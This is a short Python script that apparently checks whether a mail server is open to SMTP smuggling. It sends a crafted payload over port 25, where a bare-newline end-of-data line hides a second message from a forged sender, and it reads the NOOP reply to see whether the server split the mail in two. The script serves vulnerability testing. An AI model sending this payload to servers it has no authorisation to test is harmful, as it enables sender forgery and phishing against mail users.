"""SMTP smuggling, as others try it: a second message inside of one, behind a line that a newline alone ends."""

import smtplib
from contextlib import closing

SMUGGLED = (
    b"Subject: one\r\n\r\nhello\n.\r\nMAIL FROM:<forged@example.test>\r\nRCPT TO:<{to}>\r\n"
    b"DATA\r\nSubject: two\r\n\r\nforged\r\n.\r\n"
)


def answers(address: str, source: str, to: str, letter: bytes) -> tuple[int, bytes, tuple[int, bytes]]:
    """What a stranger's letter gets on port 25, sent to the byte: code and text, then the answer to NOOP."""
    # No QUIT: where one message was taken for two, answers are a few behind.
    with closing(smtplib.SMTP(address, 25, timeout=30, source_address=(source, 0))) as stranger:
        stranger.ehlo("mail.example.org")
        assert [stranger.mail("s@example.org")[0], stranger.rcpt(to)[0]] == [250, 250]
        assert stranger.docmd("DATA")[0] == 354
        stranger.send(letter)
        code, text = stranger.getreply()
        return code, text, stranger.docmd("NOOP")


def one_message_is_one(address: str, source: str, to: str) -> bool:
    """Whether a message with another one in it is taken for what it is.

    The answer behind that of the message is NOOP's then; where it was taken for two, it is that of the second MAIL.
    """
    code, _, behind = answers(address, source, to, SMUGGLED.replace(b"{to}", to.encode()))
    assert code == 250
    return behind == (250, b"2.0.0 Ok")
